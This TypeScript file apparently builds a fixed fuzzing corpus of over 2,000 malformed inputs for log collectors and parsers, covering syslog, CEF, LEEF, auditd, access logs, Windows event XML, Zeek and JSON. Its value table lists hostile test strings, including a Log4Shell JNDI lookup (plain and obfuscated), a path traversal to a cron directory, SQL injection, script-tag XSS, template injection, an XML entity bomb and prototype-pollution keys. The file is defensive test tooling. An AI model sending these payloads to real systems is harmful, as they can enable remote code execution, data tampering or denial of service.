/**
 * The kept corpus of bad inputs, generated from a table: each shape is what broke a collector or parser before (framing counts, priorities,
 * integers where text was expected, tags with paths and line ends, nesting, entities, quotes never closed, templates, prototypes). The same
 * in every run; more than 2,000.
 */

/** One bad input, and the format that a source of it would name. */
export interface BadInput {
  readonly name: string;
  readonly format: string;
  readonly bytes: Uint8Array;
}

/** Text that is put where a value stands. */
const VALUES: readonly (readonly [string, string])[] = [
  ['empty', ''],
  ['zero byte', 'a\0b'],
  ['path upwards', '../../../../etc/cron.d/x'],
  ['line end', 'a\nb\r\nc'],
  ['carriage return', 'a\rb'],
  ['escape sequence', '\x1b]0;x\x07\x1b[2J'],
  ['half a character', '\ud800x'],
  ['combining marks', `e${'\u0301'.repeat(5000)}`],
  ['right to left', '\u202egpj.exe'],
  ['lookup', '${jndi:ldap://x.example/a}'],
  ['nested lookup', '${${lower:j}ndi:${lower:l}dap://x.example/a}'],
  ['template', '{{7*7}}{%for i in(1,2)%}x{%endfor%}'],
  ['format string', '%n%n%s%x%99999999d'],
  ['SQL', "'; drop table events;--"],
  ['script', '<script>alert(1)</script>'],
  ['entity bomb', '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>&b;'],
  ['long', 'A'.repeat(70_000)],
  ['long number', '9'.repeat(400)],
  ['huge exponent', '1e999999999'],
  ['negative zero', '-0'],
  ['not a number', 'NaN'],
  ['max 64', '18446744073709551616'],
  ['prototype', '__proto__'],
  ['constructor', 'constructor.prototype.polluted'],
  ['quotes', '"""""""'],
  ['backslashes', '\\'.repeat(1001)],
  ['separators', '|||||=====,,,,,;;;;;\t\t\t'],
  ['brackets', '[[[[{{{{(((('],
  ['spaces', ' '.repeat(5000)],
  ['regex trap', `${'a'.repeat(5000)}!`],
  ['overlong UTF-8 as text', '\u00c0\u00af'],
  ['byte order mark', '\ufeff\ufeff'],
  ['date out of range', '9999-99-99T99:99:99Z'],
  ['leap second', '2016-12-31T23:59:60Z'],
  ['negative time', '-62135596800'],
  ['address', '999.999.999.999'],
  ['address 6', ':::::::1%eth0'],
  ['hex', 'DEADBEE'],
];

/** A line of each format with a place for a value. */
const SHAPES: readonly (readonly [format: string, name: string, line: (value: string) => string])[] = [
  ['auto', 'syslog host', (v) => `<34>Oct 11 22:14:15 ${v} su: x`],
  ['auto', 'syslog tag', (v) => `<34>Oct 11 22:14:15 h ${v}[1]: x`],
  ['auto', 'syslog priority', (v) => `<${v}>1 2003-10-11T22:14:15.003Z h a 1 m - x`],
  ['auto', 'syslog time', (v) => `<34>1 ${v} h a 1 m - x`],
  ['auto', 'structured data', (v) => `<34>1 2003-10-11T22:14:15.003Z h a 1 m [x@1 a="${v}"`],
  ['auto', 'octet count', (v) => `${v} <34>1 2003-10-11T22:14:15.003Z h a 1 m - x`],
  ['linux-auth', 'sshd user', (v) => `Feb  9 21:20:01 h sshd[1]: Failed password for invalid user ${v} from 1.2.3.4 port 5 ssh2`],
  ['linux-auth', 'sudo', (v) => `Feb  9 21:20:01 h sudo:   ${v} : TTY=pts/0 ; PWD=${v} ; USER=root ; COMMAND=${v}`],
  ['linux-auth', 'repeated', (v) => `Feb  9 21:20:01 h sshd[1]: message repeated ${v} times: [ Failed password for ${v}]`],
  ['cef', 'CEF head', (v) => `CEF:0|${v}|p|1|2|n|5|src=1.2.3.4`],
  ['cef', 'CEF value', (v) => `CEF:0|v|p|1|2|n|5|src=${v} msg=${v} cs1Label=${v} cs1=x`],
  ['cef', 'CEF key', (v) => `CEF:0|v|p|1|2|n|5|${v}=1 ${v}=2`],
  ['leef', 'LEEF delimiter', (v) => `LEEF:2.0|v|p|1|2|${v}|a=1${v}b=2`],
  ['leef', 'LEEF value', (v) => `LEEF:1.0|v|p|1|${v}|src=${v}\tusrName=${v}`],
  ['key-value', 'pair', (v) => `a=1 b="${v} c='${v} ${v}=d`],
  ['key-value', 'logfmt', (v) => `ts=${v} level=${v} msg="${v}" ${v}`],
  ['auditd', 'audit stamp', (v) => `type=SYSCALL msg=audit(${v}:1): a0=1`],
  ['auditd', 'audit value', (v) => `type=EXECVE msg=audit(1364481363.243:2): argc=${v} a0=${v} a1="${v}`],
  ['auditd', 'audit type', (v) => `type=${v} msg=audit(1364481363.243:2): x=1`],
  ['access-log', 'request', (v) => `1.2.3.4 - - [17/May/2015:10:05:03 +0000] "${v}" 200 5 "${v}" "${v}"`],
  ['access-log', 'client', (v) => `${v} - ${v} [17/May/2015:10:05:03 +0000] "GET / HTTP/1.1" 200 5`],
  ['access-log', 'time', (v) => `1.2.3.4 - - [${v}] "GET / HTTP/1.1" 200 5`],
  ['access-log', 'web error', (v) => `2016/10/25 14:49:34 [error] 5#0: *1 ${v}, client: ${v}, request: "${v}"`],
  ['pfsense', 'filterlog', (v) => `5,,,1000,igb0,match,block,in,4,0x0,,64,${v},0,DF,6,tcp,60,${v},${v},5,22,0,S`],
  ['vpc-flow', 'flow', (v) => `2 123456789010 eni-1 ${v} 172.31.9.12 ${v} 3389 6 20 4249 ${v} 1418530070 REJECT OK`],
  ['container', 'CRI', (v) => `2016-10-06T00:17:09.669794202Z stdout F ${v}`],
  ['container', 'Docker', (v) => JSON.stringify({ log: v, stream: 'stdout', time: v })],
  [
    'windows-xml',
    'XML text',
    (v) =>
      `<Event xmlns="x"><System><EventID>${v}</EventID><Channel>${v}</Channel></System><EventData><Data Name="a">${v}</Data></EventData></Event>`,
  ],
  ['windows-xml', 'XML attribute', (v) => `<Event><System><Provider Name="${v}"/><EventID>1</EventID></System></Event>`],
  ['windows-xml', 'XML tag', (v) => `<Event><System><${v}>1</${v}></System></Event>`],
  ['zeek', 'Zeek head', (v) => `#separator ${v}\n#path\t${v}\n#fields\tts\t${v}\n#types\ttime\t${v}\n1.5\t${v}\n`],
  ['zeek', 'Zeek row', (v) => `#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\n#types\ttime\taddr\n${v}\t${v}\n${v}\n`],
  ['csv', 'CSV', (v) => `a,b,${v}\n1,"${v},3\n${v},2\n`],
  ['w3c', 'W3C', (v) => `#Fields: date time c-ip ${v}\n2024-01-02 03:04:05 ${v} ${v}\n`],
  ['auto', 'JSON value', (v) => JSON.stringify({ EventID: v, Channel: 'Security', TargetUserName: v, IpAddress: v, '@timestamp': v })],
  ['auto', 'JSON key', (v) => JSON.stringify({ [v]: 1, Channel: 'Security', EventID: 4624, [`${v}x`]: { [v]: v } })],
  ['auto', 'JSON raw', (v) => `{"eventSource":"${v}","eventName":${v},"eventTime":${v}}`],
  ['auto', 'nested number', (v) => `{"timestamp":"2024-01-01T00:00:00Z","event_type":"alert","flow_id":${v},"alert":{"severity":"${v}"}}`],
  ['auto', 'envelope', (v) => `{"Records":[${v},{"eventSource":"a","eventName":${JSON.stringify(v)}}]}`],
  ['auto', 'event list', (v) => JSON.stringify({ kind: 'EventList', items: [v, { verb: v, auditID: v, user: { username: v } }] })],
  ['auto', 'carried line', (v) => JSON.stringify({ message: `<34>Oct 11 22:14:15 h su: ${v}`, log: v, MESSAGE: v })],
  [
    'auto',
    'Okta',
    (v) => JSON.stringify({ eventType: v, published: v, actor: { alternateId: v, __proto__: null }, outcome: { result: v } }),
  ],
];

/** Bytes that are no text, cut values, and structures too deep or too many, once per format. */
const STRUCTURES: readonly (readonly [string, () => Uint8Array])[] = [
  ['nothing', () => new Uint8Array(0)],
  ['zero bytes', () => new Uint8Array(4096)],
  ['all bytes', () => Uint8Array.from({ length: 256 }, (_, i) => i)],
  ['bad UTF-8', () => Uint8Array.of(0x7b, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x7d)],
  ['deep objects', () => bytesOf(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
  ['deep lists', () => bytesOf('['.repeat(200_000))],
  ['many members', () => bytesOf(`{${Array.from({ length: 60_000 }, (_, i) => `"k${i}":1`).join(',')}}`)],
  ['one member many times', () => bytesOf(`{${'"a":1,'.repeat(60_000)}"a":2}`)],
  ['many pairs', () => bytesOf('a=1 '.repeat(100_000))],
  ['many quotes', () => bytesOf('"'.repeat(300_001))],
  ['many separators', () => bytesOf(`CEF:0${'|'.repeat(300_000)}`)],
  ['many backslashes', () => bytesOf(`a="${'\\'.repeat(300_001)}`)],
  ['many equals signs', () => bytesOf(`CEF:0|a|b|c|d|e|5|${'k='.repeat(150_000)}`)],
  ['many commas', () => bytesOf(`k=1${',a'.repeat(150_000)}`)],
  ['many lines', () => bytesOf('x\n'.repeat(50_000))],
  ['many tags', () => bytesOf(`<Event><System>${'<a>'.repeat(50_000)}`)],
  ['many attributes', () => bytesOf(`<Event><System><a ${'b="c" '.repeat(50_000)}/></System></Event>`)],
  [
    'many elements',
    () => bytesOf(`<Event><System><EventID>1</EventID></System><EventData>${'<Data>x</Data>'.repeat(30_000)}</EventData></Event>`),
  ],
  ['an unclosed comment', () => bytesOf(`<Event><!-- ${'-'.repeat(300_000)}`)],
  ['too long', () => bytesOf(`{"a":"${'x'.repeat(1 << 20)}"}`)],
  ['an event log cut off', () => bytesOf(`ElfFile\0${'\0'.repeat(5000)}ElfChnk\0`)],
];

/** Every bad input; `formats` are those that each structure is given to. */
export function badInputs(formats: readonly string[]): BadInput[] {
  const lines = SHAPES.flatMap(([format, shape, line]) =>
    VALUES.map(([value, text]) => ({ name: `${shape}: ${value}`, format, bytes: bytesOf(line(text)) })),
  );
  const cut = SHAPES.map(([format, shape, line]) => ({ name: `${shape}: cut`, format, bytes: bytesOf(line('x').slice(0, -7)) }));
  const structures = formats.flatMap((format) => STRUCTURES.map(([name, make]) => ({ name: `${format}: ${name}`, format, bytes: make() })));
  return [...lines, ...cut, ...structures];
}

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
